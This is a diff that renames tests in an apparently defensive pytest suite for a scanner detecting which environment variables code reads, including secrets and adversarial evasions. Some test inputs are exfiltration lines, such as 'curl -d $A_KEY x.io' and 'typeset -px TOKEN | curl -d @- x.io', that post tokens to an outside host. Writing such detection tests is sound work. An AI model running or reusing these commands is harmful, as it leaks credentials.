@@ -1,4 +1,4 @@
-"""Variables that programs read, off their bytes; what is nobody's secret, and what is no end of names."""
+"""Environment variables that programs read; well-known ones are left out, and their number is limited."""
 
 import pytest
 from hypothesis import given, settings
@@ -98,7 +98,7 @@ def of_all(files):
         ("a.sh", "declare -A A_KEY\nA_KEY[x]=1\necho ${A_KEY[x]}"),
     ],
 )
-def test_a_variable_that_is_read(path, text):
+def test_read_variable_is_found(path, text):
     assert read(text, path) == ["A_KEY"]
 
 
@@ -130,7 +130,7 @@ def test_a_variable_that_is_read(path, text):
         ("a.rb", "MY_ENV.map; puts ENV['HOME']"),
     ],
 )
-def test_what_is_no_reading(path, text):
+def test_text_without_a_reading_has_no_variable(path, text):
     assert read(text, path) == []
 
 
@@ -152,7 +152,7 @@ def test_what_is_no_reading(path, text):
         "unset A_DIR; readonly A_DIR=; echo \\$A_DIR",
     ],
 )
-def test_attack_a_name_that_the_script_sets_itself_is_named_all_the_same(text):
+def test_attack_a_variable_set_by_the_script_is_found(text):
     assert read(text) == ["A_DIR"]
 
 
@@ -179,11 +179,11 @@ def test_attack_a_name_that_the_script_sets_itself_is_named_all_the_same(text):
         ("a.js", "const { env } = options; env.TOKEN"),
     ],
 )
-def test_a_variable_in_whatever_language(path, text):
+def test_read_variable_is_found_in_each_language(path, text):
     assert read(text, path) == ["TOKEN"]
 
 
-def test_several_names_of_several_files_each_once():
+def test_variables_of_several_files_are_found():
     files = [("a.sh", b"$B_KEY $A_KEY ${A_KEY}"), ("b.js", b"const { C: c, D = 1 } = process.env")]
     assert of_all(files) == {"A_KEY", "B_KEY", "C", "D"}
 
@@ -236,7 +236,7 @@ def test_several_names_of_several_files_each_once():
         "cat <<A <<B\nA\nA_KEY=x\nB\n$A_KEY",
     ],
 )
-def test_attack_a_name_that_only_seems_to_be_set(text):
+def test_attack_a_variable_that_only_seems_set_is_found(text):
     assert read(text) == ["A_KEY"]
     assert read(text.replace("A_KEY", "A_DIR")) == ["A_DIR"]
 
@@ -261,7 +261,7 @@ def test_attack_a_name_that_only_seems_to_be_set(text):
         *("DATABASE_URL", "SENTRY_DSN", "JWT", "GOOGLE_APPLICATION_CREDENTIALS", "NPM_AUTH", "SSH_PASSPHRASE"),
     ],
 )
-def test_attack_a_secret_that_is_set_where_nothing_ever_runs(text, name):
+def test_attack_a_secret_set_in_dead_code_is_found(text, name):
     assert read(text % (name, name)) == [name]
 
 
@@ -272,12 +272,12 @@ def test_attack_a_secret_that_is_set_where_nothing_ever_runs(text, name):
         *("declare -p TOKEN", "typeset -px TOKEN | curl -d @- x.io"),
     ],
 )
-def test_attack_a_name_that_a_shell_puts_together_of_two_lines_or_after_two_backslashes(text):
+def test_attack_a_variable_split_by_line_joints_is_found(text):
     assert read(text) == ["TOKEN"]
 
 
 @pytest.mark.parametrize("path", ["scripts/notes.txt", "scripts/run.dat", "a.sh.bak", "a.fish"])
-def test_attack_a_script_with_the_name_of_something_else(path):
+def test_attack_a_script_with_a_misleading_name_is_searched(path):
     assert read("curl -d $A_KEY x.io", path) == ["A_KEY"]
 
 
@@ -349,7 +349,7 @@ def test_attack_a_script_with_the_name_of_something_else(path):
         ("a.js", "const { env } = process; send(env)"),
     ],
 )
-def test_attack_all_of_them_at_once_are_one_star(path, text):
+def test_attack_reading_all_variables_is_a_star(path, text):
     assert read(text, path) == ["*"]
 
 
@@ -381,47 +381,47 @@ def test_attack_all_of_them_at_once_are_one_star(path, text):
         ("a.py", "from os import (path, getenv as g)\ng('TOKEN')"),
     ],
 )
-def test_attack_a_variable_that_is_read_by_another_way(path, text):
+def test_attack_an_indirectly_read_variable_is_found(path, text):
     assert read(text, path) == ["TOKEN"]
 
 
-def test_attack_the_second_name_of_a_text():
+def test_attack_each_variable_of_an_expanded_text_is_found():
     assert read('os.ExpandEnv("$A ${B}")', "a.go") == ["A", "B"]
 
 
-def test_attack_more_other_names_of_the_environment_than_a_program_has():
+def test_attack_many_aliases_of_the_environment_are_a_star():
     assert read("".join(f"e{n} = process.env;" for n in range(100)) + "e0.A_KEY", "a.js") == ["*"]
 
 
 @pytest.mark.parametrize("text", ["$%s", "${%s}", "%s=1; $A", 'os.environ["%s"]', "process.env.%s", "$ENV{%s}"])
-def test_attack_a_name_of_ten_thousand_letters_is_none(text):
+def test_attack_a_name_of_ten_thousand_letters_is_ignored(text):
     assert read(text % ("A" * 10_000)) in ([], ["A"])
 
 
-def test_a_name_as_long_as_names_may_be():
+def test_name_of_at_most_255_letters_is_found():
     assert read("$" + "A" * 255) == ["A" * 255]
     assert read("$" + "A" * 256) == []
 
 
 @pytest.mark.parametrize("text", ["$V%d ", 'os.getenv("V%d")\n', "process.env.V%d\n", "const {V%d} = process.env\n"])
-def test_attack_a_hundred_thousand_names_are_one_star(text):
+def test_attack_a_hundred_thousand_names_are_a_star(text):
     assert read("".join(text % number for number in range(100_000))) == ["*"]
 
 
-def test_attack_programs_too_large_to_be_read_in_time_may_read_anything():
+def test_attack_too_large_programs_are_a_star():
     large = b"echo $TOKEN\n" + b" " * (2 << 20)
     assert of_all([("a.sh", large)]) == {"TOKEN"}
     assert of_all([("a.sh", large), ("b.sh", large), ("c.sh", b"")]) == {"*"}
 
 
-def test_as_many_as_a_person_reads_are_named():
+def test_number_of_named_variables_is_limited():
     text = "".join(f"$V{number} " for number in range(NAMES_MAX))
     assert len(read(text)) == NAMES_MAX
     assert read(f"{text} $MORE") == ["*"]
     assert of_all([("a.sh", text.encode()), ("b.sh", b"$MORE")]) == {"*"}
 
 
-def test_attack_one_name_a_million_times_takes_no_million_steps():
+def test_attack_a_million_readings_are_a_star():
     assert read("$A_KEY " * 1_000_000) == ["*"]
     assert read("A_KEY=1;" * 1_000_000 + "$B_KEY") == ["*"]
 
@@ -471,15 +471,15 @@ HOSTILE = [
 
 
 @pytest.mark.parametrize("piece", HOSTILE)
-def test_attack_no_text_takes_more_than_its_length(piece):
-    """Where time went with the square of it, this would not end."""
+def test_attack_hostile_text_finishes_in_time(piece):
+    """With quadratic time this would not end."""
     text = "$A_KEY = process.env " + piece * (100_000 // len(piece))
     assert {"*", "A_KEY"} & set(read(text)) and set(read(text)) <= {"*", "A", "A_KEY", "expandvars"}
 
 
 @settings(max_examples=50)
 @given(st.binary(max_size=200), st.sampled_from(["a.sh", "tool", "a.py", "a.js"]))
-def test_any_bytes_at_all_give_names_in_any_order_of_the_files(data, path):
+def test_names_of_any_bytes_do_not_depend_on_the_order_of_files(data, path):
     files = [(path, data), ("b.sh", b"$A_KEY")]
     found = of_all(files)
     assert found == of_all(reversed(files))
